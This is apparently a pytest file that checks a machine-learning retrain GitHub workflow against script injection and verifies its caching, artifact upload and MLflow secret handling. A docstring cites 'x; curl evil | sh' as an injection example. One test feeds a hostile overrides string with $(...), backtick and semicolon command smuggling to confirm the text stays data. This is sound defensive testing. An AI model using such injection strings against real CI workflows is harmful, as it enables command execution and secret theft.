"""The scheduled retrain's GitHub workflow, read as GitHub reads it: nothing a user types is pasted into a
script, the data root and feature cache outlive the runner, and the day's products are kept."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml

WORKFLOW = Path(__file__).resolve().parents[2] / ".github" / "workflows" / "retrain.yml"


@pytest.fixture(scope="module")
def job() -> dict:
    return yaml.safe_load(WORKFLOW.read_text())["jobs"]["retrain"]


def step(job: dict, uses: str) -> tuple[int, dict]:
    found = [(i, s) for i, s in enumerate(job["steps"]) if str(s.get("uses", "")).startswith(uses)]
    assert len(found) == 1, f"one {uses} step"
    return found[0]


def test_no_expression_is_pasted_into_a_script(job: dict) -> None:
    """GitHub substitutes ${{ ... }} into the script's text before bash reads it: a workflow_dispatch input
    such as `x; curl evil | sh` would run. Inputs travel as environment variables instead."""
    for each in job["steps"]:
        assert "${{" not in each.get("run", ""), each
    (retrain,) = [s for s in job["steps"] if "ci_retrain.sh" in s.get("run", "")]
    assert retrain["env"]["OVERRIDES"] == "${{ github.event.inputs.overrides }}"
    assert re.search(r'read -r -a overrides <<< "\$\{OVERRIDES:-\}"', retrain["run"])
    assert '"${overrides[@]}"' in retrain["run"]


def test_the_data_root_and_caches_are_restored_before_and_saved_after_the_retrain(job: dict) -> None:
    data_root = job["env"]["QTRACK_DATA_ROOT"]
    assert data_root == "${{ github.workspace }}/qtrack-data"
    restore_at, restore = step(job, "actions/cache/restore@")
    save_at, save = step(job, "actions/cache/save@")
    retrain_at = next(i for i, s in enumerate(job["steps"]) if "ci_retrain.sh" in s.get("run", ""))
    assert restore_at < retrain_at < save_at
    assert restore["with"]["path"] == save["with"]["path"] == "qtrack-data"
    assert restore["with"]["restore-keys"] == "qtrack-data-", "yesterday's cache, whatever its key"
    assert save["with"]["key"] == restore["with"]["key"] == "qtrack-data-${{ github.run_id }}", "a new key a day"
    assert save["if"] == "success()", "a failed day never replaces a good cache"


def test_the_summary_and_tomorrows_list_are_uploaded_and_the_token_is_passed(job: dict) -> None:
    _, upload = step(job, "actions/upload-artifact@")
    uploaded = upload["with"]["path"].split()
    assert {job["env"]["QTRACK_SUMMARY"], job["env"]["QTRACK_TOMORROW"]} <= set(uploaded)
    assert upload["if"] == "always()"
    for name in ("MLFLOW_TRACKING_URI", "MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD",
                 "MLFLOW_TRACKING_TOKEN"):
        assert job["env"][name] == f"${{{{ secrets.{name} }}}}"


def test_the_overrides_reach_the_script_as_words_and_nothing_in_them_runs(tmp_path: Path, job: dict) -> None:
    """The Retrain step's own bash, with a stand-in for the script: hostile text stays data."""
    import subprocess

    (retrain,) = [s for s in job["steps"] if "ci_retrain.sh" in s.get("run", "")]
    scripts = tmp_path / "scripts"
    scripts.mkdir()
    (scripts / "ci_retrain.sh").write_text('#!/usr/bin/env bash\nprintf "%s\\n" "$@" > args.txt\n')
    (scripts / "ci_retrain.sh").chmod(0o755)
    hostile = 'model=catboost $(touch pwned) `touch pwned2`; touch pwned3 retrain.min_improvement=0.002'
    done = subprocess.run(["bash", "-e", "-c", retrain["run"]], cwd=tmp_path, env={"OVERRIDES": hostile,
                          "PATH": "/usr/bin:/bin"}, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert not any((tmp_path / name).exists() for name in ("pwned", "pwned2", "pwned3"))
    assert (tmp_path / "args.txt").read_text().splitlines() == ["prices", *hostile.split()]
